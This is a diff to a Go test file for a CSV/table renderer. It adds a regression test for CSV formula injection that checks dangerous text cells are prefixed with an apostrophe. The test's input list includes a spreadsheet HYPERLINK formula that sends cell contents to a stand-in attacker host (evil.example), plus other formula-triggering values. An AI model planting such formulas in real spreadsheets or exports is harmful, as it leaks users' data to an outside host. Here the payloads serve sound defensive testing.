@@ -2,6 +2,7 @@ package render
 
 import (
 	"bytes"
+	"encoding/csv"
 	"flag"
 	"os"
 	"path/filepath"
@@ -277,7 +278,7 @@ func TestPageTableNextLine(t *testing.T) {
 		wantLast string
 	}{
 		{name: "page with a next cursor ends with it", page: withNext, wantLast: "next: " + withNext.Next},
-		{name: "last page ends with the totals", page: lastPage, wantLast: "totals: count 5, in 340.00, out -125.50, net 214.50"},
+		{name: "last page ends with the totals", page: lastPage, wantLast: "totals of these 5 rows only (this page, not the account's or the whole filter's): in 340.00, out -125.50, net 214.50"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -287,5 +288,61 @@ func TestPageTableNextLine(t *testing.T) {
 				t.Errorf("last line = %q, want %q", got, tt.wantLast)
 			}
 		})
+	}
+}
+
+// TestCSVNeutralisesFormulasInTextCells pins issue 12's CSV injection: a description such as
+// =HYPERLINK(…) was written as it came, and a spreadsheet opening the export ran it. Every text
+// cell that starts with = + - @, a tab or a carriage return now starts with an apostrophe (text,
+// to a spreadsheet); amounts and balances keep their minus sign and stay numbers; and ParseCSV
+// gives back the rows as they were.
+func TestCSVNeutralisesFormulasInTextCells(t *testing.T) {
+	t.Parallel()
+	hostile := []string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"refund")`, "+1+1", "-2+3", "@SUM(A1:A9)",
+		"\tcmd", "\rcmd", "'quoted already", "plain text",
+	}
+	var rows []contract.HistoryRow
+	for i, d := range hostile {
+		rows = append(rows, contract.HistoryRow{
+			EventID: "evt-" + string(rune('a'+i)), Account: "alice", Type: "transfer_out", Amount: "-25.50",
+			Currency: "EUR", BalanceAfter: "-3.00", At: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
+			Description: d, TransferID: "-t1", Counterparty: "-A1", Node: "account-1",
+		})
+	}
+	out := PageCSV(contract.HistoryPage{Rows: rows})
+	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	text := map[int]bool{0: true, 1: true, 2: true, 4: true, 7: true, 8: true, 9: true, 10: true}
+	for i, rec := range records[1:] {
+		for col, cell := range rec {
+			if text[col] && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %d, column %s starts a formula: %q", i+1, csvHeader[col], cell)
+			}
+		}
+		if rec[3] != "-25.50" || rec[5] != "-3.00" {
+			t.Errorf("row %d: amount %q and balance %q, want the numbers -25.50 and -3.00", i+1, rec[3], rec[5])
+		}
+	}
+	if got := records[1][7]; got != `'=HYPERLINK("http://evil.example/?x="&A1,"refund")` {
+		t.Errorf("the formula is written as %q, want it after an apostrophe", got)
+	}
+	if got := records[8][7]; got != "plain text" {
+		t.Errorf("plain text is written as %q, want it unchanged", got)
+	}
+	back, err := ParseCSV(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range rows {
+		want := rows[i]
+		if want.Description == "\rcmd" {
+			want.Description = "cmd" // a lone carriage return does not survive CSV (see PageCSV)
+		}
+		if !reflect.DeepEqual(back[i], want) {
+			t.Errorf("row %d reads back as %+v, want %+v", i, back[i], want)
+		}
 	}
 }
